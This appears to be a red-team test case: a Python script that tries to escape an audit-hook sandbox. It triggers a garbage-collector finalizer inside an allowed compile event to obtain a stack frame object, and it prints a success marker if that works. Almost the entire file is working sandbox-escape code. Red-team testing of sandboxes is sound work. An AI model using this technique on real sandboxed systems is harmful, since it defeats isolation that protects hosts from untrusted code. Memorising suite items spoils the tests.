# family: reentrancy (a GC finalizer run inside the hook inherits its nested-event allowance)   goal: frame
# The red team's program: cyclic garbage with a __del__ made by a trusted compile
# caller (dataclasses._create_fn, foreign globals: a miss gets ValueError, not a
# refusal), gen 0 filled to right below the threshold, then an allowed event
# (ast.parse -> compile) whose hook allocates frames: the collection ran in the hook.
import random
sys = random._os.sys
gc, dataclasses, ast = (sys.modules.get("gc") or __import__("gc")), (sys.modules.get("dataclasses") or __import__("dataclasses")), (sys.modules.get("ast") or __import__("ast"))
G = {"sys": sys, "got": [], "ValueError": ValueError}
fin = dataclasses._create_fn("__del__", ("self",), [
    "try:",
    "    got.append(sys._getframe(0))",
    "except ValueError:",
    "    pass"], globals=G)
class Cyc:
    __del__ = fin
T = 300
for k in range(0, 60):
    gc.collect()
    gc.set_threshold(T)
    a = Cyc(); a.me = a; del a
    keep = []
    while gc.get_count()[0] < T - k:
        keep.append([])
    ast.parse("1")
    if G["got"]:
        break
gc.set_threshold(700)
if G["got"]:
    print("FRAME-REACHED", G["got"][0])
